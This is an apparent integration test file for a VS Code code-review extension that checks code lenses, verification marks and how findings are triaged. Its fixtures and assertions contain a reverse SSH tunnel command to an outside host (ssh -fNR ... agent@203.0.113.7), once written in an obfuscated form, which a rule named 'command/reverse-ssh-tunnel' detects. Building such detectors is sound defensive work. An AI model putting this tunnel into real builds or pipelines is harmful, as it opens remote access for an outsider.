/** Reading a change: lenses, refusals, evidence and decisions in the editors of `readingRepository`. */
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { promisify } from "node:util";
import { type CodeAction, type CodeLens, commands, Position, Selection, type TextDocument, Uri, window, workspace } from "vscode";
import type { ChecklistView, UnitView } from "../../../extension/core/report/checklist-view.ts";
import type { ChecklistAnswer, ReviewAnswer } from "../../../extension/server/protocol.ts";
import { folder } from "./command-line.ts";
import { closeAll, eventually, open, ours, ruleOf, screenshot, textAt } from "./looking.ts";
import { runMocha } from "./run-mocha.ts";
import { texts } from "./workbench.ts";

const tunnelRule = "command/reverse-ssh-tunnel";

export const run = (): Promise<void> =>
  runMocha(() => {
    let review: ReviewAnswer;

    before(async () => {
      review = await commands.executeCommand<ReviewAnswer>("countersign.reviewChanges");
    });
    afterEach(closeAll);

    describe("above a hunk", () => {
      it("stands what can be done about it, on the line where it begins", async () => {
        const { document } = await open("build.sh");
        const lenses = await lensesOf(document, (found) => found.length > 0);
        const verify = lenses.filter(({ command }) => command?.command === "countersign.verifyUnit");
        assert.deepEqual(
          verify.map(({ range }) => range.start.line),
          [1, 4, 8],
        );
        assert.ok(lenses.some(({ command }) => command?.title === "$(warning)\u00a01 finding"));
        assert.ok(lenses.some(({ command }) => command?.title === "What wrote this?"));
        await screenshot("reading-file");
      });

      it("stands how many findings it has, each of which can be read about", async () => {
        const { document } = await open("Dockerfile");
        const [unit] = (await status()).units.filter(({ path }) => path === "Dockerfile");
        const lenses = await lensesOf(document, (found) => found.length > 0);
        const lens = lenses.find(({ command }) => command?.title === "$(warning)\u00a02 findings");
        assert.deepEqual(lens?.command?.arguments, [unit?.findings.map(({ rule }) => rule)]);
        const asked = commands.executeCommand(lens?.command?.command ?? "", ...(lens?.command?.arguments ?? []));
        const rows = await eventually("the rules to choose from", async () => {
          const shown = await texts(".quick-input-list [role=option]");
          return shown.length === 2 ? shown : undefined;
        });
        assert.ok(
          unit?.findings.every(({ rule }, at) => rows[at]?.includes(rule) === true),
          rows.join(),
        );
        await commands.executeCommand("workbench.action.closeQuickOpen");
        await asked;
      });

      it("stands nothing in a file that the change leaves alone", async () => {
        const uri = Uri.joinPath(Uri.file(folder()), "untouched.txt");
        writeFileSync(uri.fsPath, "text\n");
        const document = await workspace.openTextDocument(uri);
        await window.showTextDocument(document);
        assert.deepEqual(await lensesNow(document), []);
      });

      it("stands nothing where the person wants nothing there", async () => {
        const { document } = await open("build.sh");
        await lensesOf(document, (found) => found.length > 0);
        const settings = workspace.getConfiguration("countersign");
        await settings.update("reading.codeLens", false, true);
        await lensesOf(document, (found) => found.length === 0);
        await settings.update("reading.codeLens", undefined, true);
        await lensesOf(document, (found) => found.length > 0);
      });

      it("stands who verified it, and a way to take it back", async () => {
        const { document } = await open("build.sh");
        const name = unitAt(await status(), "build.sh", 1).name;
        await commands.executeCommand("countersign.verifyUnit", name);
        const [lens] = await lensesOf(document, (found) =>
          found.some(({ command }) => command?.title.includes("Verified by Ada") === true),
        );
        assert.equal(lens?.command?.title, "$(pass-filled)\u00a0Verified by Ada · undo");
        assert.equal(unitAt(await status(), "build.sh", 1).isVerified, true);
        await screenshot("reading-verified");
        await commands.executeCommand(lens?.command?.command ?? "", ...(lens?.command?.arguments ?? []));
        await lensesOf(document, (found) => found.every(({ command }) => command?.title.includes("Verified") === false));
        assert.equal(unitAt(await status(), "build.sh", 1).isVerified, false);
      });
    });

    describe("a hunk", () => {
      it("cannot be verified in a text with edits, and the line above says why", async () => {
        const editor = await open("build.sh");
        await editor.edit((edit) => edit.insert(new Position(0, 0), "# mine\n"));
        const lenses = await lensesOf(editor.document, (found) => found.length === 1);
        assert.match(lenses[0]?.command?.title ?? "", /Cannot be verified here: there are edits that are not saved/);
        editor.selection = new Selection(2, 0, 2, 0);
        await commands.executeCommand("countersign.verifyUnit");
        assert.deepEqual(
          (await status()).units.filter((unit) => unit.isVerified && unit.path === "build.sh"),
          [],
        );
        await screenshot("reading-edited");
      });

      it("cannot be verified once the file on the disk is another", async () => {
        const { document } = await open("train.py");
        await lensesOf(document, (found) => found.length > 1);
        const file = join(folder(), "train.py");
        const text = document.getText();
        writeFileSync(file, `${text}# more\n`);
        try {
          await eventually("the new text", () => document.getText().endsWith("# more\n") || undefined);
          const lenses = await lensesOf(document, (found) => found.length === 1);
          assert.match(lenses[0]?.command?.title ?? "", /the file has changed since it was reviewed/);
        } finally {
          writeFileSync(file, text);
        }
        await lensesOf(document, (found) => found.length > 1);
      });

      it("says what wrote it, or that nothing does", async () => {
        await open("build.sh");
        const shown = commands.executeCommand<readonly string[]>("countersign.showOrigin", unitAt(await status(), "build.sh", 1).name);
        assert.deepEqual(await shown, ["$(question) Nothing says who wrote this", "$(history) Read the agent’s last session along…"]);
        await commands.executeCommand("workbench.action.closeQuickOpen");
      });
    });

    describe("what was on the screen", () => {
      it("is evidence once it was there in a diff for long enough, and enough at low risk alone", async () => {
        await closeAll();
        assert.equal(unitAt(await status(), "notes.md", 2).isVerified, false);
        const { uri } = (await open("notes.md")).document;
        const base = baseOf(review, "notes.md");
        await commands.executeCommand("vscode.diff", base, uri, "notes.md");
        const seen = await eventually("the mark", async () => {
          const unit = unitAt(await status(), "notes.md", 2);
          return unit.marks.length > 0 ? unit : undefined;
        });
        assert.deepEqual(
          seen.marks.map(({ how }) => how),
          ["viewed"],
        );
        assert.equal(seen.isVerified, true);
      });

      it("is none of a hunk that takes lines away, where only the text after is shown", async () => {
        await open("build.sh");
        await new Promise((resolve) => setTimeout(resolve, 5000));
        const taken = (await status()).units.find(
          ({ path, removed, added }) => path === "build.sh" && added.start === added.end && removed.end > 0,
        );
        assert.ok(taken);
        assert.deepEqual(taken.marks, []);
      });
    });

    describe("a finding", () => {
      it("is decided from its quick fix, with a reason that the command line knows", async () => {
        const editor = await open("build.sh");
        const { document } = editor;
        const found = await eventually("the finding", () => ours(document).find((one) => ruleOf(one) === tunnelRule));
        const offered = (command: string) =>
          eventually(`the quick fix ${command}`, async () => {
            const actions = await commands.executeCommand<CodeAction[]>(
              "vscode.executeCodeActionProvider",
              document.uri,
              found.range,
              "quickfix",
            );
            const own = actions.filter((action) => action.command?.command === command);
            return own.length > 0 ? own : undefined;
          });
        // From elsewhere in the file each place is one row, which asks for the decision.
        assert.deepEqual(
          (await offered("countersign.triageFinding")).map(({ title }) => title),
          [`Decide about ${tunnelRule}…`],
        );
        editor.selection = new Selection(found.range.start, found.range.start);
        const fixes = await offered("countersign.acceptFinding");
        assert.equal(fixes.length, 1);
        const [fix] = fixes;
        const answer = await commands.executeCommand<ChecklistAnswer>(
          fix?.command?.command ?? "",
          ...(fix?.command?.arguments ?? []),
          "the lab's jump host",
        );
        assert.deepEqual(
          answer.decisions.map(({ path, rule, as, reason }) => [path, rule, as, reason]),
          [".github/workflows/ci.yml", "Dockerfile", "build.sh", "train.py"].map((path) => [
            path,
            tunnelRule,
            "accepted",
            "the lab's jump host",
          ]),
        );
        const items = (await status()).items.filter(({ findings }) =>
          findings.some(({ fingerprint }) => fingerprint === answer.decisions[0]?.fingerprint),
        );
        assert.match(items[0]?.why ?? "", /^Accepted by Ada: the lab's jump host/);
        await screenshot("reading-decided");
      });

      it("in a Dockerfile, a workflow and a string is underlined at the very characters", async () => {
        const at = async (path: string): Promise<string[]> => {
          const { document } = await open(path);
          const found = await eventually(`the finding in ${path}`, () => {
            const rules = ours(document).filter((one) => ruleOf(one) === tunnelRule);
            return rules.length > 0 ? rules : undefined;
          });
          return found.map((one) => `${one.range.start.line}:${one.range.start.character} ${textAt(document, one)}`);
        };
        const command = "s\\sh -fNR 9:localhost:22 agent@203.0.113.7";
        assert.deepEqual(await at("Dockerfile"), [`2:14 ${command}`]);
        assert.deepEqual(await at(".github/workflows/ci.yml"), [`7:20 ${command}`]);
        assert.deepEqual(await at("train.py"), ["3:26 ssh -fNR 9:localhost:22 agent@203.0.113.7"]);
      });
    });

    it("is drawn in the editor of all diffs, of which none counts as seen", async () => {
      assert.ok(review.findings.length > 0);
      await commands.executeCommand("countersign.reviewChanges");
      await screenshot("reading-all");
      await new Promise((resolve) => setTimeout(resolve, 5000));
      assert.deepEqual(
        (await status()).units.filter(({ marks }) => marks.length > 0),
        [],
      );
    });
  });

async function status(): Promise<ChecklistView> {
  const program = join(process.env["COUNTERSIGN_REPOSITORY"] ?? "", "dist/cli.js");
  const { stdout } = await promisify(execFile)(process.execPath, [program, "status", "--format", "json"], {
    cwd: folder(),
    maxBuffer: 1e8,
  }).catch((error: { readonly stdout: string }) => error);
  return JSON.parse(stdout);
}

/** @param line 0-based, of the text after */
function unitAt({ units }: ChecklistView, path: string, line: number): UnitView {
  const found = units.find((unit) => unit.path === path && unit.added.start <= line && line < unit.added.end);
  assert.ok(found, `${path} has a unit at ${line}`);
  return found;
}

/** The text before, at the address that the extension gives it. */
function baseOf({ root, change, sides }: ReviewAnswer, path: string): Uri {
  const id = sides[change.files.findIndex((file) => file.path === path)]?.before ?? "";
  return Uri.joinPath(Uri.parse(root), path).with({
    scheme: "countersign-base",
    authority: "",
    query: JSON.stringify({ folder: Uri.parse(root).toString(), id }),
  });
}

async function lensesNow({ uri }: TextDocument): Promise<CodeLens[]> {
  const lenses = await commands.executeCommand<CodeLens[]>("vscode.executeCodeLensProvider", uri);
  return lenses.filter(({ command }) => command?.command === "" || command?.command.startsWith("countersign.") === true);
}

function lensesOf(document: TextDocument, isAwaited: (lenses: CodeLens[]) => boolean): Promise<CodeLens[]> {
  return eventually("the lines above the hunks", async () => {
    const lenses = await lensesNow(document);
    return isAwaited(lenses) ? lenses : undefined;
  });
}
